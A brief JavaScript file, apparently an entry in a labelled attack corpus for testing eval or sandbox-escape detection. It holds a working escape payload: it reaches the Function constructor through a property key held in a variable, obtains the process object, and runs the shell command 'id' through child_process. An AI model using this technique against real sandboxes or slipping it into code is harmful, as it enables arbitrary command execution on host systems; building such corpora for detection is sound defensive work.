// corpus: attack class=eval form=targeted
// The name constructor held in a variable, then used as a key.
const key = 'constructor';

function main() {
  const proc = ({})[key][key]('return process')();
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
